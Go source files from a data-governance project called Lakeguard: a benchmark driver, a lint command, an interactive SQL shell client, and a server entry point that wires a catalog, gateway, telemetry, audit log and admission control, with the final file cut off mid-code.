			fmt.Printf("==== %s ====\n\n", name)
			start := time.Now()
			if err := fn(); err != nil {
				log.Fatalf("%s: %v", name, err)
			}
			fmt.Printf("(%s completed in %v)\n\n", name, time.Since(start).Round(time.Millisecond))
		}
	}
	ran := false
	wrap := func(name string, fn func() error) {
		if *experiment == "all" || *experiment == name {
			ran = true
		}
		run(name, fn)
	}

	wrap("table1", func() error {
		rows, err := bench.RunTable1()
		if err != nil {
			return err
		}
		fmt.Println(bench.FormatTable1(rows))
		return nil
	})

	wrap("table2", func() error {
		cfg := bench.DefaultTable2Config()
		if *quick {
			cfg = bench.Table2Config{SimpleRows: 20_000, HashRows: 800, UDFCounts: []int{1, 2, 5, 10}, Repetitions: 3, Fuse: true}
		}
		rows, err := bench.RunTable2(cfg)
		if err != nil {
			return err
		}
		fmt.Println(bench.FormatTable2(rows))
		return nil
	})

	wrap("coldstart", func() error {
		cfg := bench.DefaultColdStartConfig()
		if *quick {
			cfg.Provision = 100 * time.Millisecond
			cfg.Rows = 2_000
		}
		res, err := bench.RunColdStart(cfg)
		if err != nil {
			return err
		}
		fmt.Printf("Sandbox startup (§5): simulated provisioning delay %v\n\n", cfg.Provision)
		fmt.Printf("  first UDF query of the session: %v  (includes cold start)\n", res.FirstQuery.Round(time.Millisecond))
		fmt.Printf("  warm queries (sandbox reused):  %v\n", res.WarmMedian().Round(time.Microsecond))
		fmt.Printf("  sandbox provisions in session:  %d (paid once, then amortized)\n", res.ColdStarts)
		return nil
	})

	wrap("membrane", func() error {
		res := bench.RunMembraneComparison(bench.DefaultMembraneConfig())
		fmt.Println(bench.FormatMembrane(res))
		return nil
	})

	wrap("efgac-modes", func() error {
		cfg := bench.DefaultEFGACModesConfig()
		if *quick {
			cfg = bench.EFGACModesConfig{RowCounts: []int{100, 2_000}, Repetitions: 2}
		}
		rows, err := bench.RunEFGACModes(cfg)
		if err != nil {
			return err
		}
		fmt.Println(bench.FormatEFGACModes(rows))
		return nil
	})

	wrap("exec", func() error {
		cfg := bench.DefaultExecScalingConfig()
		if *quick {
			cfg.Rows = 40_000
			cfg.RowsPerFile = 2048
			cfg.ReadLatency = 2 * time.Millisecond
			cfg.Repetitions = 1
		}
		res, err := bench.RunExecScaling(cfg)
		if err != nil {
			return err
		}
		res.FilterKernel, err = bench.RunFilterKernel(8192, 5)
		if err != nil {
			return err
		}
		fmt.Println(bench.FormatExecScaling(res))
		if *jsonOut != "" {
			data, err := res.FormatJSON()
			if err != nil {
				return err
			}
			if err := os.WriteFile(*jsonOut, append(data, '\n'), 0o644); err != nil {
				return err
			}
			fmt.Printf("wrote %s\n", *jsonOut)
		}
		return nil
	})

	wrap("skipping", func() error {
		cfg := bench.DefaultSkippingConfig()
		if *quick {
			cfg.Rows = 40_000
			cfg.RowsPerFile = 2048
			cfg.ReadLatency = 2 * time.Millisecond
			cfg.Repetitions = 1
		}
		res, err := bench.RunSkipping(cfg)
		if err != nil {
			return err
		}
		fmt.Println(bench.FormatSkipping(res))
		if res.GetReduction < 3 {
			return fmt.Errorf("data skipping reduced GETs only %.1fx (want >= 3x)", res.GetReduction)
		}
		if res.WarmRepeat.LogEntriesReplayed != 0 {
			return fmt.Errorf("warm repeat replayed %d log entries (want 0)", res.WarmRepeat.LogEntriesReplayed)
		}
		if *jsonOut != "" {
			data, err := res.FormatJSON()
			if err != nil {
				return err
			}
			if err := os.WriteFile(*jsonOut, append(data, '\n'), 0o644); err != nil {
				return err
			}
			fmt.Printf("wrote %s\n", *jsonOut)
		}
		return nil
	})

	wrap("join", func() error {
		cfg := bench.DefaultJoinConfig()
		if *quick {
			cfg = bench.JoinConfig{Rows: 150_000, RowsPerFile: 4096, BuildRows: 300, SpillBytes: 1 << 19, Repetitions: 2}
		}
		res, err := bench.RunJoin(cfg)
		if err != nil {
			return err
		}
		fmt.Println(bench.FormatJoin(res))
		if res.ProbeSpeedup < 3 {
			return fmt.Errorf("vectorized probe only %.1fx over row probe (want >= 3x)", res.ProbeSpeedup)
		}
		if res.GetReduction < 3 {
			return fmt.Errorf("runtime filter reduced probe GETs only %.1fx (want >= 3x)", res.GetReduction)
		}
		if !res.SpillIdentical {
			return fmt.Errorf("spilled run did not reproduce the in-memory result")
		}
		if *jsonOut != "" {
			data, err := res.FormatJSON()
			if err != nil {
				return err
			}
			if err := os.WriteFile(*jsonOut, append(data, '\n'), 0o644); err != nil {
				return err
			}
			fmt.Printf("wrote %s\n", *jsonOut)
		}
		return nil
	})

	wrap("telemetry", func() error {
		cfg := bench.DefaultTelemetryOverheadConfig()
		if *quick {
			cfg.Rows = 60_000
			cfg.RowsPerFile = 2048
			cfg.Repetitions = 3
		}
		res, err := bench.RunTelemetryOverhead(cfg)
		if err != nil {
			return err
		}
		fmt.Println(bench.FormatTelemetryOverhead(res))
		if *jsonOut != "" {
			data, err := res.FormatJSON()
			if err != nil {
				return err
			}
			if err := os.WriteFile(*jsonOut, append(data, '\n'), 0o644); err != nil {
				return err
			}
			fmt.Printf("wrote %s\n", *jsonOut)
		}
		if *maxOverheadPct > 0 && res.OverheadPct > *maxOverheadPct {
			return fmt.Errorf("telemetry overhead %.1f%% exceeds budget %.1f%%", res.OverheadPct, *maxOverheadPct)
		}
		if *maxOverheadPct > 0 && res.VerifyOverheadPct > *maxOverheadPct {
			return fmt.Errorf("sentinel verify overhead %.1f%% exceeds budget %.1f%%", res.VerifyOverheadPct, *maxOverheadPct)
		}
		return nil
	})

	wrap("churn", func() error {
		cfg := bench.DefaultChurnConfig()
		if *quick {
			cfg.Commits = 200
			cfg.Duration = 400 * time.Millisecond
			cfg.MinSpeedup = 3
			cfg.Rows = 8_192
			cfg.RowsPerFile = 512
		}
		res, err := bench.RunChurn(cfg)
		if res != nil {
			fmt.Println(bench.FormatChurn(res))
		}
		if err != nil {
			return err
		}
		if *jsonOut != "" {
			data, err := res.FormatJSON()
			if err != nil {
				return err
			}
			if err := os.WriteFile(*jsonOut, append(data, '\n'), 0o644); err != nil {
				return err
			}
			fmt.Printf("wrote %s\n", *jsonOut)
		}
		return nil
	})

	wrap("tenancy", func() error {
		cfg := bench.DefaultTenancyConfig()
		if *quick {
			cfg.Duration = time.Second
		}
		res, err := bench.RunTenancy(cfg)
		if res != nil {
			fmt.Println(bench.FormatTenancy(res))
		}
		if err != nil {
			return err
		}
		if *jsonOut != "" {
			data, err := res.FormatJSON()
			if err != nil {
				return err
			}
			if err := os.WriteFile(*jsonOut, append(data, '\n'), 0o644); err != nil {
				return err
			}
			fmt.Printf("wrote %s\n", *jsonOut)
		}
		return nil
	})

	if !ran {
		fmt.Fprintf(os.Stderr, "unknown experiment %q\n", *experiment)
		flag.Usage()
		os.Exit(2)
	}
}
