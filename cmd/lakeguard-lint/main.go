// Command lakeguard-lint runs the Lakeguard architecture linter over the
// enclosing module: import boundaries between governance and enforcement
// layers, %w error wrapping, lock-by-value hygiene, and security-context
// parameters on governance entry points. See internal/lint for the rules.
//
// Usage:
//
//	lakeguard-lint [-json] [./...]
//
// The package pattern is accepted for familiarity but the linter always
// analyzes the whole module containing the working directory. Exit status is
// 0 when clean, 1 when findings exist, 2 on operational errors.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"

	"lakeguard/internal/lint"
)

func main() {
	jsonOut := flag.Bool("json", false, "emit findings as a JSON array")
	flag.Parse()

	root, err := findModuleRoot()
	if err != nil {
		fmt.Fprintln(os.Stderr, "lakeguard-lint:", err)
		os.Exit(2)
	}
	runner, err := lint.NewRunner(root)
	if err != nil {
		fmt.Fprintln(os.Stderr, "lakeguard-lint:", err)
		os.Exit(2)
	}
	findings, err := runner.Run()
	if err != nil {
		fmt.Fprintln(os.Stderr, "lakeguard-lint:", err)
		os.Exit(2)
	}
	if *jsonOut {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if findings == nil {
			findings = []lint.Finding{}
		}
		if err := enc.Encode(findings); err != nil {
			fmt.Fprintln(os.Stderr, "lakeguard-lint:", err)
			os.Exit(2)
		}
	} else {
		for _, f := range findings {
			fmt.Println(f)
		}
	}
	if len(findings) > 0 {
		fmt.Fprintf(os.Stderr, "lakeguard-lint: %d finding(s)\n", len(findings))
		os.Exit(1)
	}
}

func findModuleRoot() (string, error) {
	dir, err := os.Getwd()
	if err != nil {
		return "", err
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return "", fmt.Errorf("no go.mod found above the working directory")
		}
		dir = parent
	}
}
