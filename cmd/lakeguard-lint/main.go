// Command lakeguard-lint runs the Lakeguard architecture linter over the
// enclosing module: import boundaries between governance and enforcement
// layers, %w error wrapping, lock-by-value hygiene, and security-context
// parameters on governance entry points. See internal/lint for the rules.
//
// Usage:
//
//	lakeguard-lint [-json] [-github] [./...]
//
// The package pattern is accepted for familiarity but the linter always
// analyzes the whole module containing the working directory. With -github,
// each finding is emitted as a GitHub Actions workflow annotation
// (::error file=...,line=...,col=...::message) so CI surfaces findings
// inline on the offending lines. Exit status is 0 when clean, 1 when
// findings exist, 2 on operational errors.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"lakeguard/internal/lint"
)

func main() {
	jsonOut := flag.Bool("json", false, "emit findings as a JSON array")
	github := flag.Bool("github", false, "emit findings as GitHub Actions ::error annotations")
	flag.Parse()

	root, err := findModuleRoot()
	if err != nil {
		fmt.Fprintln(os.Stderr, "lakeguard-lint:", err)
		os.Exit(2)
	}
	runner, err := lint.NewRunner(root)
	if err != nil {
		fmt.Fprintln(os.Stderr, "lakeguard-lint:", err)
		os.Exit(2)
	}
	findings, err := runner.Run()
	if err != nil {
		fmt.Fprintln(os.Stderr, "lakeguard-lint:", err)
		os.Exit(2)
	}
	switch {
	case *github:
		for _, f := range findings {
			fmt.Println(githubAnnotation(f))
		}
	case *jsonOut:
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if findings == nil {
			findings = []lint.Finding{}
		}
		if err := enc.Encode(findings); err != nil {
			fmt.Fprintln(os.Stderr, "lakeguard-lint:", err)
			os.Exit(2)
		}
	default:
		for _, f := range findings {
			fmt.Println(f)
		}
	}
	if len(findings) > 0 {
		fmt.Fprintf(os.Stderr, "lakeguard-lint: %d finding(s)\n", len(findings))
		os.Exit(1)
	}
}

// githubAnnotation renders one finding in the GitHub Actions workflow-command
// format. Per the Actions spec, property values escape %, CR, LF, ':' and ','
// while the free-text message escapes only %, CR, LF.
func githubAnnotation(f lint.Finding) string {
	return fmt.Sprintf("::error file=%s,line=%d,col=%d::%s: %s",
		escapeProperty(f.File), f.Line, f.Col, escapeData(f.Rule), escapeData(f.Message))
}

func escapeData(s string) string {
	s = strings.ReplaceAll(s, "%", "%25")
	s = strings.ReplaceAll(s, "\r", "%0D")
	return strings.ReplaceAll(s, "\n", "%0A")
}

func escapeProperty(s string) string {
	s = escapeData(s)
	s = strings.ReplaceAll(s, ":", "%3A")
	return strings.ReplaceAll(s, ",", "%2C")
}

func findModuleRoot() (string, error) {
	dir, err := os.Getwd()
	if err != nil {
		return "", err
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return "", fmt.Errorf("no go.mod found above the working directory")
		}
		dir = parent
	}
}
