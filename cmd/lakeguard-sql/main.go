// lakeguard-sql is an interactive SQL shell speaking the Connect protocol.
//
// Usage:
//
//	go run ./cmd/lakeguard-sql -addr http://localhost:8765 -token admin-token
//
// Commands:
//
//	<sql statement>;   execute (multi-line input until a trailing ';')
//	\explain <query>   show the (policy-redacted) plan
//	\explainv <query>  show the plan with sentinel verification annotations
//	\analyze <query>   execute with EXPLAIN ANALYZE profiling
//	\audit [n]         last n audit events from system.audit.events (default 20)
//	\history [n]       last n queries from system.query.history (default 20)
//	\q                 quit
//
// \audit and \history compile to plain governed SELECTs over the system
// tables, so the built-in row filters apply: each caller sees their own
// rows; metastore admins see everything.
//
// DML and maintenance statements ride the deletion-vector machinery:
//
//	DELETE FROM t [WHERE p]              mask rows via deletion vectors (no file rewrite)
//	UPDATE t SET c = e, ... [WHERE p]    mask old rows + append updated copies
//	MERGE INTO t USING s ON c            upsert: WHEN MATCHED THEN UPDATE SET/DELETE,
//	                                     WHEN NOT MATCHED THEN INSERT VALUES (...)
//	OPTIMIZE t [TARGET SIZE n]           bin-pack small files, rewrite DV-dense files
//	VACUUM t                             delete tombstoned and orphaned storage objects
//
// With -e, the -explain-verified flag prints the optimized plan annotated
// with the static security invariant that cleared each policy operator,
// instead of executing the statement.
package main

import (
	"bufio"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"lakeguard/internal/connect"
)

func main() {
	addr := flag.String("addr", "http://localhost:8765", "Connect endpoint URL")
	token := flag.String("token", "admin-token", "bearer token")
	execute := flag.String("e", "", "execute one statement and exit")
	explainVerified := flag.Bool("explain-verified", false, "with -e: print the sentinel-verified plan instead of executing")
	analyzeFlag := flag.Bool("analyze", false, "with -e: execute with EXPLAIN ANALYZE profiling")
	retries := flag.Int("retries", 3, "max retries with jittered backoff when the server sheds a query with 429")
	timeoutMs := flag.Int("timeout-ms", 0, "per-query deadline in milliseconds sent with each request (0 = none)")
	flag.Parse()

	client := connect.Dial(*addr, *token)
	client.SetMaxRetries(*retries)
	if *timeoutMs > 0 {
		client.SetTimeout(time.Duration(*timeoutMs) * time.Millisecond)
	}
	defer client.Close()

	if *execute != "" {
		ok := false
		switch {
		case *explainVerified:
			ok = explain(client, *execute, true)
		case *analyzeFlag:
			ok = analyze(client, *execute)
		default:
			ok = runStatement(client, *execute)
		}
		if !ok {
			client.Close()
			os.Exit(1)
		}
		return
	}
	if *explainVerified || *analyzeFlag {
		fmt.Fprintln(os.Stderr, "error: -explain-verified and -analyze require -e <query>")
		os.Exit(2)
	}

	fmt.Printf("lakeguard-sql connected to %s (session %s)\n", *addr, client.SessionID())
	fmt.Println(`enter SQL terminated by ';', \explain <query>, \explainv <query>, \analyze <query>, \audit [n], \history [n], or \q to quit`)
	scanner := bufio.NewScanner(os.Stdin)
	scanner.Buffer(make([]byte, 1<<20), 1<<20)
	var buf strings.Builder
	prompt := "sql> "
	for {
		fmt.Print(prompt)
		if !scanner.Scan() {
			return
		}
		line := scanner.Text()
		trimmed := strings.TrimSpace(line)
		if buf.Len() == 0 {
			switch {
			case trimmed == "":
				continue
			case trimmed == `\q`, trimmed == "exit", trimmed == "quit":
				return
			case strings.HasPrefix(trimmed, `\explainv `):
				explain(client, strings.TrimPrefix(trimmed, `\explainv `), true)
				continue
			case strings.HasPrefix(trimmed, `\explain `):
				explain(client, strings.TrimPrefix(trimmed, `\explain `), false)
				continue
			case strings.HasPrefix(trimmed, `\analyze `):
				analyze(client, strings.TrimPrefix(trimmed, `\analyze `))
				continue
			case trimmed == `\audit`, strings.HasPrefix(trimmed, `\audit `):
				runStatement(client, auditQuery(metaLimit(trimmed, `\audit`)))
				continue
			case trimmed == `\history`, strings.HasPrefix(trimmed, `\history `):
				runStatement(client, historyQuery(metaLimit(trimmed, `\history`)))
				continue
			}
		}
		buf.WriteString(line)
		buf.WriteByte('\n')
		if strings.HasSuffix(trimmed, ";") {
			stmt := strings.TrimSuffix(strings.TrimSpace(buf.String()), ";")
			buf.Reset()
			prompt = "sql> "
			runStatement(client, stmt)
		} else {
			prompt = "  -> "
		}
	}
}

// metaLimit parses the optional row-count argument of \audit / \history.
func metaLimit(trimmed, cmd string) int {
	arg := strings.TrimSpace(strings.TrimPrefix(trimmed, cmd))
	if arg == "" {
		return 20
	}
	n, err := strconv.Atoi(arg)
	if err != nil || n <= 0 {
		fmt.Fprintf(os.Stderr, "ignoring bad limit %q; using 20\n", arg)
		return 20
	}
	return n
}

// auditQuery and historyQuery are ordinary governed SELECTs: the server's
// built-in system-table row filters decide which rows this token may see.
func auditQuery(n int) string {
	return fmt.Sprintf(
		"SELECT event_time, tenant, action, securable, decision, reason FROM system.audit.events ORDER BY event_time DESC LIMIT %d", n)
}

func historyQuery(n int) string {
	return fmt.Sprintf(
		"SELECT end_time, tenant, status, total_ms, rows_out, sql_text FROM system.query.history ORDER BY end_time DESC LIMIT %d", n)
}

func runStatement(client *connect.Client, stmt string) bool {
	start := time.Now()
	b, err := client.ExecSQL(stmt)
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		return false
	}
	fmt.Print(b.String())
	fmt.Printf("(%d row(s) in %v)\n", b.NumRows(), time.Since(start).Round(time.Millisecond))
	return true
}

// analyze executes the query with EXPLAIN ANALYZE profiling and prints the
// annotated operator tree.
func analyze(client *connect.Client, query string) bool {
	out, rows, err := client.SqlExplainAnalyze(strings.TrimSuffix(strings.TrimSpace(query), ";"))
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		return false
	}
	fmt.Print(out)
	fmt.Printf("(%d row(s))\n", rows)
	return true
}

func explain(client *connect.Client, query string, verified bool) bool {
	df := client.Sql(query)
	var out string
	var err error
	if verified {
		out, err = df.ExplainVerified()
	} else {
		out, err = df.Explain()
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		return false
	}
	fmt.Println(out)
	return true
}
