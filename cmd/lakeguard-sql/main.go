// lakeguard-sql is an interactive SQL shell speaking the Connect protocol.
//
// Usage:
//
//	go run ./cmd/lakeguard-sql -addr http://localhost:8765 -token admin-token
//
// Commands:
//
//	<sql statement>;   execute (multi-line input until a trailing ';')
//	\explain <query>   show the (policy-redacted) plan
//	\q                 quit
package main

import (
	"bufio"
	"flag"
	"fmt"
	"os"
	"strings"
	"time"

	"lakeguard/internal/connect"
)

func main() {
	addr := flag.String("addr", "http://localhost:8765", "Connect endpoint URL")
	token := flag.String("token", "admin-token", "bearer token")
	execute := flag.String("e", "", "execute one statement and exit")
	flag.Parse()

	client := connect.Dial(*addr, *token)
	defer client.Close()

	if *execute != "" {
		runStatement(client, *execute)
		return
	}

	fmt.Printf("lakeguard-sql connected to %s (session %s)\n", *addr, client.SessionID())
	fmt.Println(`enter SQL terminated by ';', \explain <query>, or \q to quit`)
	scanner := bufio.NewScanner(os.Stdin)
	scanner.Buffer(make([]byte, 1<<20), 1<<20)
	var buf strings.Builder
	prompt := "sql> "
	for {
		fmt.Print(prompt)
		if !scanner.Scan() {
			return
		}
		line := scanner.Text()
		trimmed := strings.TrimSpace(line)
		if buf.Len() == 0 {
			switch {
			case trimmed == "":
				continue
			case trimmed == `\q`, trimmed == "exit", trimmed == "quit":
				return
			case strings.HasPrefix(trimmed, `\explain `):
				explain(client, strings.TrimPrefix(trimmed, `\explain `))
				continue
			}
		}
		buf.WriteString(line)
		buf.WriteByte('\n')
		if strings.HasSuffix(trimmed, ";") {
			stmt := strings.TrimSuffix(strings.TrimSpace(buf.String()), ";")
			buf.Reset()
			prompt = "sql> "
			runStatement(client, stmt)
		} else {
			prompt = "  -> "
		}
	}
}

func runStatement(client *connect.Client, stmt string) {
	start := time.Now()
	b, err := client.ExecSQL(stmt)
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		return
	}
	fmt.Print(b.String())
	fmt.Printf("(%d row(s) in %v)\n", b.NumRows(), time.Since(start).Round(time.Millisecond))
}

func explain(client *connect.Client, query string) {
	out, err := client.Sql(query).Explain()
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		return
	}
	fmt.Println(out)
}
