// lakeguard-server starts a complete Lakeguard deployment on one port: a
// governance catalog, a serverless gateway fleet (Standard architecture,
// multi-user), and the Connect protocol endpoint.
//
// Usage:
//
//	go run ./cmd/lakeguard-server -addr :8765 \
//	    -token admin-token=admin@corp.com -token alice-token=alice@corp.com \
//	    -admin admin@corp.com -demo
//
// Then connect with:
//
//	go run ./cmd/lakeguard-sql -addr http://localhost:8765 -token admin-token
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"net/http"
	"strings"
	"time"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/gateway"
	"lakeguard/internal/proto"
	"lakeguard/internal/storage"
	"lakeguard/internal/telemetry"
)

type tokenFlags map[string]string

func (t tokenFlags) String() string { return fmt.Sprint(map[string]string(t)) }

func (t tokenFlags) Set(v string) error {
	parts := strings.SplitN(v, "=", 2)
	if len(parts) != 2 {
		return fmt.Errorf("token flag must be token=user, got %q", v)
	}
	t[parts[0]] = parts[1]
	return nil
}

func main() {
	addr := flag.String("addr", ":8765", "listen address")
	admin := flag.String("admin", "admin@corp.com", "metastore admin user")
	demo := flag.Bool("demo", false, "seed demo data (sales table with a row filter)")
	maxSessions := flag.Int("max-sessions-per-cluster", 8, "gateway scale-out threshold")
	parallelism := flag.Int("parallelism", 0, "engine worker count per cluster (0 = LAKEGUARD_PARALLELISM or NumCPU, 1 = serial)")
	slowQueryMs := flag.Int("slow-query-ms", 1000, "queries slower than this land in the /debug/queries slow log (0 disables)")
	tokens := tokenFlags{}
	flag.Var(tokens, "token", "token=user mapping (repeatable)")
	flag.Parse()

	if len(tokens) == 0 {
		tokens["admin-token"] = *admin
		log.Printf("no -token flags given; using default admin-token=%s", *admin)
	}

	store := storage.NewStore()
	cat := catalog.New(store, nil)
	cat.AddAdmin(*admin)

	// Telemetry: one registry and tracer for the whole deployment. The
	// registry feeds /metrics; the tracer mints one trace per query and
	// keeps the last-N (plus slow queries) for /debug/queries.
	metrics := telemetry.NewRegistry()
	tracer := telemetry.NewTracer()
	if *slowQueryMs > 0 {
		tracer.SetSlowThreshold(time.Duration(*slowQueryMs) * time.Millisecond)
	}
	cat.SetMetrics(metrics)

	gw := gateway.New(gateway.Config{
		Provision: func(name string) *core.Server {
			log.Printf("provisioning cluster %s", name)
			return core.NewServer(core.Config{
				Name: name, Catalog: cat, Compute: catalog.ComputeServerless,
				Parallelism: *parallelism, Metrics: metrics,
			})
		},
		MaxSessionsPerCluster: *maxSessions,
		Metrics:               metrics,
	})
	service := connect.NewService(gw, connect.TokenMap(tokens))
	service.SetTracer(tracer)
	stopSweeper := service.StartSweeper(30*time.Second, 15*time.Minute)
	defer stopSweeper()

	if *demo {
		seedDemo(cat, *admin)
	}

	mux := http.NewServeMux()
	mux.Handle("/", service.Handler())
	mux.Handle("/metrics", metrics)
	mux.Handle("/debug/queries", telemetry.DebugQueriesHandler(tracer))

	log.Printf("lakeguard-server listening on %s (%d token(s)), telemetry at /metrics and /debug/queries", *addr, len(tokens))
	if err := http.ListenAndServe(*addr, mux); err != nil {
		log.Fatal(err)
	}
}

func seedDemo(cat *catalog.Catalog, admin string) {
	srv := core.NewServer(core.Config{Name: "seed", Catalog: cat, Compute: catalog.ComputeStandard})
	stmts := []string{
		"CREATE TABLE sales (amount DOUBLE, date DATE, seller STRING, region STRING)",
		`INSERT INTO sales VALUES
			(100, CAST('2024-12-01' AS DATE), 'ann', 'US'),
			(200, CAST('2024-12-01' AS DATE), 'ben', 'EU'),
			(50,  CAST('2024-12-02' AS DATE), 'ann', 'US'),
			(300, CAST('2024-12-02' AS DATE), 'ben', 'EU')`,
		"ALTER TABLE sales SET ROW FILTER 'region = ''US'' OR IS_ACCOUNT_GROUP_MEMBER(''admins'')'",
	}
	for _, s := range stmts {
		pl := &proto.Plan{Command: &proto.Command{SQL: s}}
		if _, _, err := srv.Execute(context.Background(), admin+"/seed", admin, pl); err != nil {
			log.Fatalf("demo seed %q: %v", s, err)
		}
	}
	log.Println("demo data seeded: table `sales` with a row filter (region='US')")
}
