// lakeguard-server starts a complete Lakeguard deployment on one port: a
// governance catalog, a serverless gateway fleet (Standard architecture,
// multi-user), and the Connect protocol endpoint.
//
// Usage:
//
//	go run ./cmd/lakeguard-server -addr :8765 \
//	    -token admin-token=admin@corp.com -token alice-token=alice@corp.com \
//	    -admin admin@corp.com -demo
//
// Then connect with:
//
//	go run ./cmd/lakeguard-sql -addr http://localhost:8765 -token admin-token
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"net/http"
	"strconv"
	"strings"
	"time"

	"lakeguard/internal/admission"
	"lakeguard/internal/audit"
	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/gateway"
	"lakeguard/internal/proto"
	"lakeguard/internal/session"
	"lakeguard/internal/storage"
	"lakeguard/internal/systemtables"
	"lakeguard/internal/telemetry"
)

type tokenFlags map[string]string

func (t tokenFlags) String() string { return fmt.Sprint(map[string]string(t)) }

func (t tokenFlags) Set(v string) error {
	parts := strings.SplitN(v, "=", 2)
	if len(parts) != 2 {
		return fmt.Errorf("token flag must be token=user, got %q", v)
	}
	t[parts[0]] = parts[1]
	return nil
}

type weightFlags map[string]int

func (w weightFlags) String() string { return fmt.Sprint(map[string]int(w)) }

func (w weightFlags) Set(v string) error {
	parts := strings.SplitN(v, "=", 2)
	if len(parts) != 2 {
		return fmt.Errorf("weight flag must be user=weight, got %q", v)
	}
	n, err := strconv.Atoi(parts[1])
	if err != nil || n <= 0 {
		return fmt.Errorf("weight for %s must be a positive integer, got %q", parts[0], parts[1])
	}
	w[parts[0]] = n
	return nil
}

func main() {
	addr := flag.String("addr", ":8765", "listen address")
	admin := flag.String("admin", "admin@corp.com", "metastore admin user")
	demo := flag.Bool("demo", false, "seed demo data (sales table with a row filter)")
	maxSessions := flag.Int("max-sessions-per-cluster", 8, "gateway scale-out threshold")
	parallelism := flag.Int("parallelism", 0, "engine worker count per cluster (0 = LAKEGUARD_PARALLELISM or NumCPU, 1 = serial)")
	spillBytes := flag.Int64("spill-bytes", 0, "join/aggregation hash-table budget before spilling to temp storage (0 = LAKEGUARD_SPILL_BYTES or 256 MiB, negative disables)")
	slowQueryMs := flag.Int("slow-query-ms", 1000, "queries slower than this land in the /debug/queries slow log (0 disables)")
	maxConcurrent := flag.Int("max-concurrent", 8, "admission: concurrent query limit across all tenants (0 disables admission control)")
	maxQueueDepth := flag.Int("max-queue-depth", 16, "admission: per-tenant wait-queue bound; requests beyond it are shed with 429")
	sharedSessions := flag.Bool("shared-sessions", true, "share one session store across the fleet so drains detach warm state instead of exporting it")
	autoscaleMs := flag.Int("autoscale-ms", 2000, "fleet health sweep + autoscaler tick interval (0 disables)")
	dataDir := flag.String("data-dir", "", "persist object storage under this directory so tables — including the system tables — survive restarts (empty = in-memory)")
	systemTables := flag.Bool("system-tables", true, "spool audit events, query history, and per-tenant usage into the governed system catalog")
	systemFlushMs := flag.Int("system-flush-ms", 2000, "system-table spooler flush interval")
	systemRetention := flag.Duration("system-retention", 30*24*time.Hour, "truncate system-table partitions older than this (0 keeps forever)")
	checkpointInterval := flag.Int("checkpoint-interval", 0, "write a delta-log checkpoint every N commits so cold snapshots replay O(N) entries (0 = engine default, negative disables)")
	tokens := tokenFlags{}
	flag.Var(tokens, "token", "token=user mapping (repeatable)")
	weights := weightFlags{}
	flag.Var(weights, "tenant-weight", "user=weight admission scheduling weight (repeatable, default 1)")
	flag.Parse()

	if len(tokens) == 0 {
		tokens["admin-token"] = *admin
		log.Printf("no -token flags given; using default admin-token=%s", *admin)
	}

	store := storage.NewStore()
	if *dataDir != "" {
		var err error
		store, err = storage.NewPersistentStore(*dataDir)
		if err != nil {
			log.Fatal(err)
		}
		log.Printf("object storage persisted under %s", *dataDir)
	}
	// One audit log for the whole deployment: the catalog records
	// authorization decisions into it, the connect layer records admission
	// sheds, and the system-table spooler drains it durably.
	auditLog := audit.NewLog()
	cat := catalog.New(store, auditLog)
	cat.AddAdmin(*admin)
	if *checkpointInterval != 0 {
		n := *checkpointInterval
		if n < 0 {
			n = 0 // 0 disables checkpoint writing at the log layer
		}
		cat.SetCheckpointInterval(n)
	}

	// Telemetry: one registry and tracer for the whole deployment. The
	// registry feeds /metrics; the tracer mints one trace per query and
	// keeps the last-N (plus slow queries) for /debug/queries.
	metrics := telemetry.NewRegistry()
	tracer := telemetry.NewTracer()
	if *slowQueryMs > 0 {
		tracer.SetSlowThreshold(time.Duration(*slowQueryMs) * time.Millisecond)
	}
	cat.SetMetrics(metrics)

	// The spooler drains the audit ring, completed-query profiles, and
	// per-tenant usage into governed Delta tables under the system catalog.
	// With -data-dir they survive restarts. It must exist before the gateway
	// provisions its first cluster, which captures it into the server config.
	var spooler *systemtables.Spooler
	if *systemTables {
		sp, err := systemtables.New(systemtables.Config{
			Catalog: cat, Audit: auditLog, Metrics: metrics,
			FlushInterval: time.Duration(*systemFlushMs) * time.Millisecond,
			Retention:     *systemRetention,
		})
		if err != nil {
			log.Fatal(err)
		}
		spooler = sp
		spooler.Start()
		log.Printf("system tables enabled: system.audit.events, system.query.history, system.billing.usage (flush %dms, retention %v)", *systemFlushMs, *systemRetention)
	}

	// One session store for the whole fleet: cluster drains and rebalances
	// become warm detaches (release sandboxes, keep temp views) instead of
	// export/import round-trips.
	var sessions *session.Store
	if *sharedSessions {
		sessions = session.NewStore()
	}

	gw := gateway.New(gateway.Config{
		Provision: func(name string) *core.Server {
			log.Printf("provisioning cluster %s", name)
			return core.NewServer(core.Config{
				Name: name, Catalog: cat, Compute: catalog.ComputeServerless,
				Parallelism: *parallelism, SpillBytes: *spillBytes,
				Metrics: metrics, Sessions: sessions, SystemTables: spooler,
			})
		},
		MaxSessionsPerCluster: *maxSessions,
		Metrics:               metrics,
	})
	service := connect.NewService(gw, connect.TokenMap(tokens))
	service.SetTracer(tracer)
	stopSweeper := service.StartSweeper(30*time.Second, 15*time.Minute)
	defer stopSweeper()

	service.SetAudit(auditLog)

	var ctrl *admission.Controller
	if *maxConcurrent > 0 {
		ctrl = admission.NewController(admission.Config{
			MaxConcurrent: *maxConcurrent,
